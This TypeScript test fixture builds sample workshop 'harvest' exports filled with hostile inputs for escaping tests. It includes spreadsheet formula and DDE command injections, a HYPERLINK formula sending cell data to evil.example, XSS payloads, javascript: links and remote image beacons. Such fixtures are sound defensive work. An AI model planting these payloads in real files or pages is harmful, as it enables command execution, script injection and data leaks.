/** Harvests for tests: one like a real session, and one written by somebody who wishes us ill. */
import type { Harvest, HarvestBlock, HarvestNote } from '@escale/shared'

/** Texts that mean something to some program: spreadsheet, browser, Markdown, XML, terminal, bidi. */
export const HOSTILE: readonly string[] = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"clic")',
  "=cmd|' /C calc'!A0",
  '+33612345678',
  '-2+3+cmd|calc!A1',
  '@SUM(1+1)*cmd|calc!A0',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u00a0=1+1',
  '\u202f+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '−1',
  '"=1+1',
  '";=1+1;"',
  'a;=1+1',
  'a\n=1+1',
  'a\r\n+1',
  '\u0000=1+1',
  '\u0001-1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'-alert(1)-'",
  '</style><script>alert(1)</script>',
  '<!-- --><![CDATA[ ]]> &lt;b&gt; &amp; &#60;',
  '[clic](javascript:alert(1)) ![x](https://evil.example/a.png)',
  '# titre\n## sous-titre\n- [ ] tâche\n1. un\n2) deux\n> cité\n---\n===\n***',
  '`code` **gras** _souligné_ ~~barré~~ | a | b |\n|---|---|\n```\nbloc\n```',
  'fin par une barre \\',
  '    quatre espaces',
  '\u202eesrever\u202c \u2066isolé\u2069',
  'Familles 👨‍👩‍👧‍👦 🇫🇷 1️⃣ ❤️ 👍🏽 مرحبا שלום',
  'é composé e\u0301, narrow\u202f: « guillemets » ; fin\u00a0!',
  `${'Anticonstitutionnellement'.repeat(19)} !`,
  'a\u0300'.repeat(200),
  'https://exemple.fr/une/adresse/tres/longue?avec=des&parametres=et#ancre',
]

/** Each with a number of its own at its end, so that it can be found. */
export const HOSTILE_NOTES: readonly HarvestNote[] = HOSTILE.map((text, i) => ({
  id: `n${i}`,
  text: `${text} nº${i}.`,
  colour: i % 8,
  author: i % 3 === 0 ? 'p1' : null,
  ...(i % 5 === 0 ? { votes: i + 1 } : {}),
  ...(i % 7 === 0 ? { likes: i + 2 } : {}),
  ...(i % 5 === 0
    ? { values: [{ label: 'Effort <i>', value: `${(i % 5) + 1}/5`, number: (i % 5) + 1, of: 5 }] }
    : {}),
  ...(i % 8 < 2 ? { category: 'AB'.charAt(i % 8) } : {}),
}))

export const NAMES = { p1: 'Zénobie=<b>', p2: 'Théophraste' } as const

const BLOCKS: readonly HarvestBlock[] = [
  {
    type: 'notes',
    zones: [
      {
        title: 'Zone <1> =1+1',
        notes: HOSTILE_NOTES.slice(0, 20),
        stacks: [
          { title: '=Pile <b>', notes: ['n2', 'n3'] },
          { title: '', notes: ['n7'] },
        ],
      },
      { title: '', notes: HOSTILE_NOTES.slice(20) },
      { title: 'Vide', notes: [] },
    ],
    categories: [
      { letter: 'A', label: '=Frein <b>', colour: 0 },
      { letter: 'B', label: '', colour: 1 },
    ],
  },
]

const OTHERS: readonly HarvestBlock[] = [
  { type: 'heading', text: 'Intertitre <i>' },
  {
    type: 'markdown',
    text: '# Bonjour\n\n**gras** <script>alert(2)</script>\n\n- un\n- [deux](https://exemple.fr)',
  },
  { type: 'link', label: 'La démarche', url: 'https://exemple.fr/a?b=(c)' },
  { type: 'link', label: 'Un piège', url: 'javascript:alert(3)' },
  { type: 'picture', picture: 'pic', alt: 'Une "fresque" <b>', credit: 'Elicec' },
  { type: 'picture', picture: 'gone', alt: 'Image perdue', credit: '' },
  {
    type: 'stories',
    words: ['lien', '=mot', 'oiseau'],
    stories: [
      { text: 'Il était une fois\n\n=un oiseau <b>', author: 'p2' },
      { text: 'Une histoire sans nom', author: null },
    ],
  },
  {
    type: 'groups',
    groups: [
      { title: '1', people: ['p1', 'p2'], text: '- Nos trois points\n- deux' },
      { title: '2', people: [], text: '' },
    ],
  },
  {
    type: 'ranking',
    dots: 3,
    voted: 2,
    secret: false,
    entries: [
      { rank: 1, tied: true, note: 'r1', text: 'Arrivé <b>premier</b>', votes: 4, people: ['p2'] },
      { rank: 1, tied: true, note: 'r2', text: '=Arrivé aussi', votes: 4, people: [] },
    ],
  },
  {
    type: 'table',
    columns: ['Choix', 'Voix'],
    rows: [
      ['=A', '3'],
      ['B | <b>', '4'],
    ],
  },
]

export function hostileHarvest(names: boolean): Harvest {
  return {
    title: 'Séance <du> "24" & =avril',
    language: 'fr',
    sessionAt: Date.UTC(2020, 3, 24, 12),
    madeAt: Date.UTC(2020, 3, 24, 14),
    ended: true,
    participants: 2,
    people: names ? ['p1', 'p2'] : [],
    names: names ? NAMES : null,
    sections: [
      {
        activity: 'a',
        kind: 'wall',
        title: 'Le <mur>',
        instructions:
          'Que **voulons**-nous ? <img src="https://evil.example/x.png">\n\n![x](https://evil.example/y.png)',
        startedAt: Date.UTC(2020, 3, 24, 12),
        blocks: BLOCKS,
      },
      { activity: 'b', kind: 'slide', title: '', instructions: '', startedAt: null, blocks: OTHERS },
    ],
  }
}

const PEOPLES_TEXT = /^(?:text|title|label|value|alt|credit|instructions)$/

/** A harvest in which all that people wrote begins with these words: those with which one sees where a text came out. */
export const begunWith = (harvest: Harvest, words: string): Harvest =>
  JSON.parse(JSON.stringify(harvest), (key, value: unknown) => {
    if (PEOPLES_TEXT.test(key) && typeof value === 'string' && value !== '') return `${words}${value}`
    if (key === 'words' || key === 'columns') return (value as string[]).map((one) => `${words}${one}`)
    if (key === 'rows') return (value as string[][]).map((row) => row.map((one) => `${words}${one}`))
    if (key === 'names' && value !== null)
      return Object.fromEntries(Object.entries(value as object).map(([id, name]) => [id, `${words}${name}`]))
    return value
  }) as Harvest

/** A wall of so many notes. */
export const bigHarvest = (count: number, text: (i: number) => string): Harvest => ({
  ...hostileHarvest(false),
  title: 'Grande séance',
  sections: [
    {
      activity: 'a',
      kind: 'wall',
      title: 'Intentions',
      instructions: '',
      startedAt: null,
      blocks: [
        {
          type: 'notes',
          zones: [
            {
              title: '',
              notes: Array.from({ length: count }, (_, i) => ({
                id: `n${i}`,
                text: text(i),
                colour: i % 8,
                author: null,
              })),
            },
          ],
        },
      ],
    },
  ],
})
